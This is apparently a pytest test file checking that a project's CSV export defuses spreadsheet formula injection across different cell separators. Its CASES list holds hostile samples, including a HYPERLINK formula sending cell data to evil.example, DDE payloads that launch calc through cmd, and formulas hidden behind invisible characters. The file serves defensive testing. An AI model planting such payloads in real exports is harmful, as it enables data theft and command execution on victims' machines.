"""No text in a CSV file of the project becomes a formula of a spreadsheet, whichever sign ends a cell for that one.

Programs differ in that sign: a German Excel opens a file with commas, and takes the semicolon. So the files are split
again here, by a few lines of their own that read quotes as these programs do: only at the beginning of a cell.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

import examples.host.app
from paliadin.reports import export

assert examples.host.app  # which puts the application's folder into the path
DEFUSED: dict[str, Callable[[str], str]] = {
    "the project's": export.defuse,
    "the example application's": sys.modules["paliad_application.audit"].defused,
}
# All that is not an ideograph or somebody's own. Each worker makes the lists: of all there are, they take a second.
CHARACTERS = [chr(code) for code in (*range(0x20000), *range(0xE0000, 0xE1000))]
SIGNS = [char for char in CHARACTERS if unicodedata.normalize("NFKC", char)[:1] in set("=+-@")]
UNSEEN = [char for char in CHARACTERS if char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}]
LINK = '=HYPERLINK("https://evil.example/?"&A1;"x")'
CASES = [
    LINK,
    *(f"a{end}{LINK}" for end in ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1e", "\x85", "\u2028", "\u2029")),
    *(f"a{sign}{LINK}{sign}b" for sign in (";", "\t", "; ", ";;;", ";\t", ";\u00a0", "\n\n", "\n;", ";\ufeff")),
    *(f"a{sign}{LINK}{sign}b" for sign in ('";"', ';"', '";')),
    f'"{LINK}',
    f'""";{LINK}',
    f",{LINK}",
    f"a,{LINK}",
    "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A1",
    "+1;-1;@x",
    "- a list\n- with -1 and\n+ more",
    "\u00a0\u2003\u3000\uff1d1",
    "\u202e\u200b\u2060=1",
    "\x00\x1b=1",
    "\t=1",
    "\r=1",
    *(f"{before}{sign}A1" for sign in SIGNS for before in ("", "x;", "x\n\u00a0")),
    *(f"{before}{char}=1" for char in UNSEEN for before in ("", "x;", 'x;"')),
]  # fmt: skip
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def cells(text: str, separator: str) -> list[str]:
    """All cells of a file, as a program finds them for which this sign ends a cell."""
    found, cell, quoted, place = [], "", False, 0
    while place < len(text):
        char = text[place]
        if quoted and text.startswith('""', place):
            cell, place = cell + '"', place + 1
        elif quoted:
            quoted, cell = (False, cell) if char == '"' else (True, cell + char)
        elif char == '"' and not cell:
            quoted = True
        elif char == separator or char in "\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029":
            found, cell = [*found, cell], ""
        else:
            cell += char
        place += 1
    return [*found, cell]


def is_formula(cell: str) -> bool:
    """Tell whether the first character that is to be seen makes it a formula; a plain number is none."""
    seen = "".join(char for char in unicodedata.normalize("NFKC", cell) if char not in UNSEEN).lstrip('"')
    return seen[:1] in set("=+-@") and seen != "" and not NUMBER.fullmatch(seen)


def written(*row: object) -> str:
    file = io.StringIO()
    csv.writer(file).writerow(row)
    return file.getvalue()


def test_the_cases_are_formulas_as_they_are() -> None:
    harmless = {
        case
        for case in CASES
        if not any(is_formula(cell) for sign in ",;\t" for cell in cells(written("x", case, "y"), sign))
    }
    assert harmless == {f"a,{LINK}", f",{LINK}"}, "a comma within a text is in quotes"


@pytest.mark.parametrize("whose", DEFUSED)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_text_becomes_a_formula(whose: str, separator: str) -> None:
    for case in CASES:
        text = DEFUSED[whose](case)
        for row in ((text,), ("x", text), (text, text), ("x", -1, text, 'a"b;')):
            found = [cell for cell in cells(written(*row), separator) if is_formula(cell)]
            assert not found, (case, row)


@pytest.mark.parametrize("whose", DEFUSED)
@given(text=st.text(st.sampled_from("=+-@;,\t|\"'\n\r \u00a0\u200b\uff1da1")))
def test_neither_does_any_mixture_of_signs(whose: str, text: str) -> None:
    line = written("x", DEFUSED[whose](text), "y")
    assert not [cell for sign in ",;\t|" for cell in cells(line, sign) if is_formula(cell)]


@pytest.mark.parametrize("whose", DEFUSED)
def test_text_that_begins_nowhere_with_a_sign_stays_as_it_is(whose: str) -> None:
    for text in (
        "",
        "a = b",
        "ada@example.org",
        "2026-11-21",
        "1 - 2",
        "x;y|z",
        "'=1",
        'He said "no"; then a-b',
        "a, -b",
    ):
        assert DEFUSED[whose](text) == text


def test_an_export_defuses_texts_and_lists_and_leaves_numbers() -> None:
    assert [export._cell(value) for value in (-5, -0.5, None, True)] == [-5, -0.5, None, True]
    listed = export._cell([{"name": "a;=1", "ok": True}, ";-2"])
    assert json.loads(listed) == [{"name": "a;'=1", "ok": True}, ";'-2"], "which is JSON as before"


@pytest.mark.parametrize("whose", DEFUSED)
def test_a_text_is_searched_once(whose: str) -> None:
    """Each of these would take hours if every line end began a search of its own through all that follow."""
    for text in ("\n" * 1_000_000, "; " * 500_000, '";' * 500_000):
        assert "'" not in DEFUSED[whose](text + "x")
